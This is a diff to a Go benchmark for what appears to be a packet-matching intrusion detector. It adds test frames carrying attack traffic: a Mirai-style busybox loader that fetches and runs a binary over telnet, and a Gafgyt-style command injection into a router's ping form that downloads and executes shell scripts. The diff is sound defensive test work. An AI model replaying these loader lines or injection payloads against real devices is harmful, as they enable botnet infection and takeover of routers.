@@ -32,6 +32,13 @@ func BenchmarkPacket(b *testing.B) {
 		{"vlan-ipv6-ext-https", layers.LinkTypeEthernet, ethRaw([]uint16{0x8100}, 0x86dd,
 			ip6Raw([]byte{protoHopByHop, protoRouting, protoDestOpts}, protoTCP, tcpRaw(443, bytes.Repeat([]byte("x"), 1200))))},
 		{"ipv6-tcp-4444-command", layers.LinkTypeEthernet, ethRaw(nil, 0x86dd, ip6Raw(nil, protoTCP, tcpRaw(4444, []byte("tftp -i 10.0.0.9 GET msblast.exe"))))},
+		// Port 80 and 23 carry command rules: ordinary web requests (one
+		// naming loader files, which the scanner reads through), and the
+		// loaders' lines in telnet and in an exploit's URL-encoded body.
+		{"tcp-80-web", layers.LinkTypeEthernet, tcpFrame(b, 80, []byte(benchWebRequest))},
+		{"tcp-80-web-names-tftp", layers.LinkTypeEthernet, tcpFrame(b, 80, []byte("GET /mirror/tftp/bins/tftp1.sh?from=tftp%20-g HTTP/1.1\r\n"+benchWebRequest[strings.Index(benchWebRequest, "Host:"):]))},
+		{"tcp-23-mirai-loader", layers.LinkTypeEthernet, tcpFrame(b, 23, []byte("/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n"))},
+		{"tcp-80-exploit-gafgyt", layers.LinkTypeEthernet, tcpFrame(b, 80, []byte("POST /boaform/formPing6 HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\npingAddr=%3bcd+/tmp%3btftp+10.0.0.9+-c+get+axistftp1.sh%3bsh+axistftp1.sh%3btftp+-r+axistftp2.sh+-g+10.0.0.9&wanif=65535"))},
 	}
 	for _, c := range cases {
 		b.Run(c.name, func(b *testing.B) {
@@ -44,6 +51,13 @@ func BenchmarkPacket(b *testing.B) {
 		})
 	}
 }
+
+// benchWebRequest is a browser's request as a mirror port carries many.
+const benchWebRequest = "GET /static/js/app.min.js?v=20261206 HTTP/1.1\r\nHost: www.example.com\r\n" +
+	"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0\r\n" +
+	"Accept: */*\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br, zstd\r\n" +
+	"Referer: https://www.example.com/products/index.html?utm_source=newsletter&utm_medium=email%20campaign\r\n" +
+	"Cookie: session=8f3a9c1d2e4b5a6f7089; consent=%7B%22ads%22%3Afalse%7D\r\nConnection: keep-alive\r\n\r\n"
 
 // FuzzPacket feeds arbitrary frames of every supported link type to the
 // matcher: it must never panic, and a frame must never yield an odd
